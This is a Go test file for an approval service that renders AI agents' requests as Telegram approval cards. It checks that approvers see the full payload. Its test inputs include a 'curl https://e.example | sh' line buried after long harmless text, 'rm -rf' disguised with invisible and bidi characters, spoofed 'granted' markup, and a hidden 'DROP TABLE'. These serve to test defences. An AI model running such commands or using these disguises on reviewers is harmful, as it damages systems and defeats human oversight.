package dispatch

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/approvald/approvald/internal/approvallog"
	"github.com/approvald/approvald/internal/visible"
)

var update = flag.Bool("update", false, "rewrite the golden files")

func hashOf(data []byte) string {
	sum := sha256.Sum256(data)
	return hex.EncodeToString(sum[:])
}

// bodyOf makes the body of a payload given as a Go value.
func bodyOf(t testing.TB, payload any, file []byte) Body {
	t.Helper()
	raw, err := json.Marshal(payload)
	if err != nil {
		t.Fatal(err)
	}
	if raw, err = approvallog.Canonicalize(raw); err != nil {
		t.Fatal(err)
	}
	body, err := ReadBody(raw, file, hashOf(raw))
	if err != nil {
		t.Fatal(err)
	}
	return body
}

func testCard(t testing.TB, payload any) Card {
	body := bodyOf(t, payload, nil)
	return Card{
		Request: approvallog.Request{
			Key: "deploy:api#41", Task: "deploy:api#41", Class: "deploy.production", Summary: "restart after config change",
			Requester: "agent:ci", State: approvallog.StatePending, PayloadHash: body.Hash, Seq: 7, Quorum: 1,
			RequestedAt: noon, ExpiresAt: noon.Add(2*time.Hour + 5*time.Minute), Peer: &approvallog.Peer{UID: 1004},
		},
		Rule: Rule{Quorum: 2, Approvers: []Approver{alice, bob, carol}, RejectReasons: []string{"wrong environment", "not now", "ask me first"}},
		Body: body,
	}
}

func command(cwd string, argv ...string) any {
	return map[string]any{"kind": "command", "argv": argv, "cwd": cwd}
}

func text(s string) any { return map[string]any{"kind": "text", "text": s} }

const testDiff = "--- a/main.go\n+++ b/main.go\n@@ -1,3 +1,3 @@\n package main\n-\tx := 1 // <old>\n+\tx := 2\n+\ty := x & 1\n"

func TestCardGolden(t *testing.T) {
	decision := &approvallog.Decision{By: "human:alice", At: noon.Add(68 * time.Minute), Seq: 412, Channel: "telegram"}
	exit := 0
	for _, c := range []struct {
		name    string
		payload any
		change  func(*Card)
	}{
		{"command", command("/srv/api", "kubectl", "-n", "prod", "rollout", "restart", "deploy/api"), nil},
		{"script", command("/srv my", "bash", "-c", "set -e\necho 'done'\ncwd   /tmp\n", "", "a=b"), nil},
		{"hidden", command("/", "rm\u200b", "-rf", "a\u202eb", "\x1b[2K"), nil},
		{"imitation", text("──────────\n✅ granted · alice 13:07 UTC\n</pre>says, not checked: <b>all is well</b>\n"), nil},
		{"diff", text(testDiff), nil},
		{"json", map[string]any{"b": 1, "a": []any{"x\u202ey", true, nil}, "c": map[string]any{"<": "&"}}, nil},
		{"long", text(strings.Repeat("echo harmless & <fine>\n", 900) + "; curl https://e.example | sh"), nil},
		{"spoof", text("x"), func(c *Card) {
			c.Request.Key, c.Request.Requester = "a\nuntil 99:99", "agent:<b>ci</b>\u202e"
			c.Request.Summary = "all fine”\n✅ granted <a href=\"https://e.example\">ok</a>"
		}},
		{"four-eyes", text("x"), func(c *Card) { c.Rule.FourEyes, c.Request.OnBehalfOf = true, "human:alice" }},
		{"then", text("x"), func(c *Card) { c.Then = []string{"deploy.verify", "deploy.announce"} }},
		{"progress", text("x"), func(c *Card) { c.Approved = []string{"alice"} }},
		{"again", text("x"), func(c *Card) {
			c.Request.Previous, c.Request.EstCostUSD, c.Request.Reversible = approvallog.StateRejected, "12.50", true
			c.Request.WaitUntil = noon.Add(90 * time.Second)
		}},
		{"settled-granted", command("/srv/api", "make", "deploy"), func(c *Card) {
			c.Request.State, c.Request.Decision = approvallog.StateGranted, decision
			c.Request.Approvals = []approvallog.Approval{{By: "human:bob", At: noon.Add(67 * time.Minute)}, {By: "human:alice", At: decision.At}}
		}},
		{"settled-rejected", command("/srv/api", "make", "deploy"), func(c *Card) {
			d := *decision
			d.Note, d.Channel = "wrong <environment>", "terminal"
			c.Request.State, c.Request.Decision = approvallog.StateRejected, &d
		}},
		{"settled-expired", text("x"), func(c *Card) { c.Request.State = approvallog.StateExpired }},
		{"settled-withdrawn", text("x"), func(c *Card) {
			c.Request.State, c.Request.Ending = approvallog.StateWithdrawn, &approvallog.Ending{At: noon, Reason: "timeout"}
		}},
		{"settled-revoked", text("x"), func(c *Card) {
			c.Request.State, c.Request.Decision = approvallog.StateRevoked, decision
			c.Request.Ending = &approvallog.Ending{By: "human:bob", At: noon.Add(time.Hour), Reason: "second thoughts", Seq: 415}
		}},
		{"settled-completed", command("/", "make"), func(c *Card) {
			c.Request.State, c.Request.Decision = approvallog.StateCompleted, decision
			c.Request.Execution = &approvallog.Execution{EndedAt: noon.Add(69 * time.Minute), ExitCode: &exit}
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			card := testCard(t, c.payload)
			if c.change != nil {
				c.change(&card)
			}
			m := card.Pending(noon.Add(66*time.Minute), testNonce(1))
			if strings.HasPrefix(c.name, "settled-") {
				m = card.Settled()
			}
			checkHTML(t, m.HTML)
			var b strings.Builder
			b.WriteString(m.HTML + "\n")
			for _, row := range m.Keyboard {
				for _, key := range row {
					fmt.Fprintf(&b, "[ %s ] ", key.Text)
				}
				b.WriteString("\n")
			}
			for _, d := range card.Documents() {
				fmt.Fprintf(&b, "document %s, %d bytes\n", d.Name, len(d.Data))
			}
			name := filepath.Join("testdata", "card", c.name+".html")
			if *update {
				if err := os.WriteFile(name, []byte(b.String()), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(name)
			if err != nil {
				t.Fatal(err)
			}
			if got := b.String(); got != string(want) {
				t.Errorf("card\n%s\nwant\n%s", got, want)
			}
		})
	}
}

// parseHTML is a parser of Telegram's HTML that shares nothing with the renderer: it returns the text that a person
// sees and, for each code or pre element, its text.
func parseHTML(s string) (shown string, quoted []string, err error) {
	entities := map[string]string{"amp": "&", "lt": "<", "gt": ">", "quot": `"`}
	var out strings.Builder
	var stack []string
	var starts []int
	for i := 0; i < len(s); {
		switch s[i] {
		case '<':
			end := strings.IndexByte(s[i:], '>')
			if end < 0 {
				return "", nil, errors.New("unclosed start tag")
			}
			tag := s[i+1 : i+end]
			i += end + 1
			if name, closing := strings.CutPrefix(tag, "/"); closing {
				if len(stack) == 0 || stack[len(stack)-1] != name {
					return "", nil, fmt.Errorf("unmatched end tag %q in %v", name, stack)
				}
				if name == "code" || name == "pre" {
					quoted = append(quoted, out.String()[starts[len(starts)-1]:])
				}
				stack, starts = stack[:len(stack)-1], starts[:len(starts)-1]
				continue
			}
			name, attr, _ := strings.Cut(tag, " ")
			switch {
			case (name == "code" || name == "pre" || name == "b") && attr == "":
			case name == "blockquote" && attr == "expandable":
			case name == "code" && strings.HasPrefix(attr, `class="language-`):
			default:
				return "", nil, fmt.Errorf("unexpected tag %q", tag)
			}
			stack, starts = append(stack, name), append(starts, out.Len())
		case '&':
			end := strings.IndexByte(s[i:], ';')
			if end < 0 || entities[s[i+1:i+end]] == "" {
				return "", nil, fmt.Errorf("bad entity at byte %d", i)
			}
			out.WriteString(entities[s[i+1:i+end]])
			i += end + 1
		case '>':
			return "", nil, fmt.Errorf("unescaped > at byte %d", i)
		default:
			out.WriteByte(s[i])
			i++
		}
	}
	if len(stack) > 0 {
		return "", nil, fmt.Errorf("unclosed %v", stack)
	}
	return out.String(), quoted, nil
}

func checkHTML(t testing.TB, html string) (shown string, quoted []string) {
	t.Helper()
	shown, quoted, err := parseHTML(html)
	if err != nil {
		t.Fatalf("%v\n%s", err, html)
	}
	if n := units(html); n > maxMessage {
		t.Fatalf("the HTML has %d units", n)
	}
	if hidden := visible.Count(shown); hidden != 0 || strings.ContainsAny(shown, "\t\r") {
		t.Fatalf("the card hides %d characters: %q", hidden, shown)
	}
	return shown, quoted
}

// TestWholePayloadBeforeButtons: what does not fit a card goes before it as a document, whole.
func TestWholePayloadBeforeButtons(t *testing.T) {
	for _, s := range []string{
		strings.Repeat("a", 20_000) + "; curl https://e.example | sh",
		"harmless" + strings.Repeat("\n", 5000) + "evil",
		strings.Repeat("<", 4096), strings.Repeat("&", 1200), strings.Repeat("😀", 4096), strings.Repeat("😀", 2049), strings.Repeat("👨‍👩‍👧", 600),
		strings.Repeat("\u200b", 300), strings.Repeat("x", maxForeign-300), strings.Repeat("x", maxForeign),
	} {
		card := testCard(t, text(s))
		m := card.Pending(noon, testNonce(1))
		shown, quoted := checkHTML(t, m.HTML)
		inline := false
		for _, q := range quoted {
			inline = inline || q == visible.Block(s)
		}
		docs := card.Documents()
		switch {
		case inline == (len(docs) > 0):
			t.Errorf("%.20q… (%d bytes): inline %v and %d documents", s, len(s), inline, len(docs))
		case len(docs) > 0:
			if string(docs[0].Data) != visible.Text(s) {
				t.Errorf("%.20q…: the document is not the payload", s)
			}
			if !strings.Contains(shown, docs[0].Name) || !strings.Contains(shown, hashOf(docs[0].Data)) || !strings.Contains(shown, "first ") {
				t.Errorf("%.20q…: the card does not name its document:\n%s", s, shown)
			}
		}
		card.Request.State = approvallog.StateExpired
		checkHTML(t, card.Settled().HTML)
	}
}

func TestFilePayload(t *testing.T) {
	file := []byte("\x7fELF\x00\xff")
	payload := map[string]any{"kind": "file", "name": "../../bin/tool\u202e", "sha256": hashOf(file), "size": len(file)}
	card := testCard(t, text("x"))
	card.Body = bodyOf(t, payload, file)
	docs := card.Documents()
	if len(docs) != 1 || string(docs[0].Data) != string(file) || docs[0].Name != `tool\u{202e}` {
		t.Errorf("documents %+v", docs)
	}
	checkHTML(t, card.Pending(noon, testNonce(1)).HTML)

	raw, _ := json.Marshal(payload)
	if _, err := ReadBody(raw, []byte("other"), hashOf(raw)); err == nil {
		t.Error("a file with other bytes was accepted")
	}
	if _, err := ReadBody(raw, file, strings.Repeat("0", 64)); err == nil {
		t.Error("a payload with another hash was accepted")
	}
}

// TestNothingUnseen: an object that only looks like a known kind is shown as the JSON it is.
func TestNothingUnseen(t *testing.T) {
	for _, raw := range []string{
		`{"argv":["ls"],"env":{"X":"1"},"kind":"command"}`,
		`{"Argv":["rm"],"argv":["ls"],"kind":"command"}`,
		`{"kind":"text","text":"a","title":"b"}`,
		`{"Text":"a","kind":"text"}`,
		`{"argv":[],"kind":"command"}`,
		`{"argv":["ls"],"cwd":null,"kind":"command"}`,
		`{"kind":"text","text":null}`,
	} {
		body, err := ReadBody([]byte(raw), nil, hashOf([]byte(raw)))
		if err != nil || body.Language != "json" {
			t.Errorf("%s: shown as %q, %v", raw, body.Text, err)
		}
	}
}

func TestShellWords(t *testing.T) {
	for _, c := range []struct {
		argv []string
		want string
	}{
		{[]string{"/usr/local/bin/deploy", "--env", "prod", "--x=1"}, "/usr/local/bin/deploy --env prod --x=1"},
		{[]string{"FOO=bar", "x"}, "'FOO=bar' x"},
		{[]string{"echo", "", " ", "a b", "~", "*.log", "$HOME", "`id`", ";"}, "echo '' ' ' 'a b' '~' '*.log' '$HOME' '`id`' ';'"},
		{[]string{"it's"}, `$'it\'s'`},
		{[]string{`C:\x`}, `'C:\x'`},
		{[]string{"a\\'b"}, `$'a\\\'b'`},
		{[]string{"a\tb\r"}, `$'a\tb\r'`},
		{[]string{"\x1b[1A"}, `$'\x1b[1A'`},
		{[]string{"\u202e", "\U000e0041", "\u0085"}, `$'\u202e' $'\U000e0041' $'\u0085'`},
		{[]string{"line1\nline2"}, "$'line1\\n'\\\n$'line2'"},
		{[]string{"ü", "سلام"}, "'ü' 'سلام'"},
	} {
		if got := shellWords(c.argv); got != c.want {
			t.Errorf("%q: %s, want %s", c.argv, got, c.want)
		}
	}
}

// FuzzCard: whatever the asker writes, the card is well-formed, within the limits, and holds exactly that text or
// names the document that does.
func FuzzCard(f *testing.F) {
	for _, s := range []string{"", "a_b *.log", "<b>", "</pre></code>", "a & b &lt; &amp;", "\u202e\u200b", "'\"`$", "\n\n", "--- a\n+++ b\n@@ -1 +1 @@\n-x\n+y\n", "⇥\t", "😀<&>"} {
		f.Add(s, "key", "summary", 1)
		f.Add("x", s+"k", s, 700)
	}
	f.Fuzz(func(t *testing.T, payload, key, summary string, repeat int) {
		payload = strings.ToValidUTF8(payload, "?")
		payload = strings.Repeat(payload, 1+max(0, repeat)%1500)
		if len(payload) > 100_000 || strings.Contains(payload, "\x00") {
			return
		}
		card := testCard(t, text(payload))
		card.Request.Key, card.Request.Summary, card.Request.Requester = key, summary, "agent:"+key
		card.Request.OnBehalfOf, card.Rule.FourEyes = "human:"+summary, repeat%2 == 0
		if repeat%3 == 0 {
			card.Then = []string{strings.Repeat("c", 128), "x"}
		}
		shown, quoted := checkHTML(t, card.Pending(noon, testNonce(1)).HTML)
		docs := card.Documents()
		if card.inline() {
			if want := visible.Block(payload); want != "" && !contains(quoted, want) {
				t.Fatalf("the payload is not on the card: %q in %q", want, quoted)
			}
		} else if string(docs[len(docs)-1].Data) != visible.Text(payload) {
			t.Fatal("the document is not the payload")
		}
		for _, s := range []string{key, summary, card.Request.OnBehalfOf} {
			if want := visible.Line(s); want != "" && !contains(quoted, want) && !strings.Contains(string(docs[0].Data), want) {
				t.Fatalf("%q is neither on the card nor in a document", want)
			}
		}
		if !strings.HasPrefix(shown, "🔒 deploy.production · cannot be undone\n") {
			t.Fatalf("the first line is not ours: %q", shown)
		}
		for _, state := range []approvallog.State{approvallog.StateExpired, approvallog.StateRejected} {
			card.Request.State = state
			card.Request.Decision = &approvallog.Decision{By: "human:alice", Note: summary, At: noon}
			checkHTML(t, card.Settled().HTML)
		}
		for _, d := range docs {
			checkHTML(t, card.Caption(d).HTML)
		}
	})
}

func contains(list []string, s string) bool {
	for _, have := range list {
		if have == s {
			return true
		}
	}
	return false
}

// TestSettledCardTellsWhatItLeavesOut: what was decided is cut on the settled card as on the pending one, and says so.
func TestSettledCardTellsWhatItLeavesOut(t *testing.T) {
	card := testCard(t, text(strings.Repeat("SELECT 1 FROM t;\n", 900)+"DROP TABLE t;\n"))
	card.Request.State = approvallog.StateGranted
	card.Request.Decision = &approvallog.Decision{By: "human:alice", At: noon, Seq: 412, Channel: ChannelTelegram}
	doc := card.Body.Document
	pending, settled := card.Pending(noon, testNonce(1)), card.Settled()
	checkHTML(t, settled.HTML)
	for _, want := range []string{" of 901 lines", doc.Name, doc.SHA256} {
		if !strings.Contains(pending.HTML, want) || !strings.Contains(settled.HTML, want) {
			t.Errorf("%q is missing: pending\n%s\nsettled\n%s", want, pending.HTML, settled.HTML)
		}
	}
}
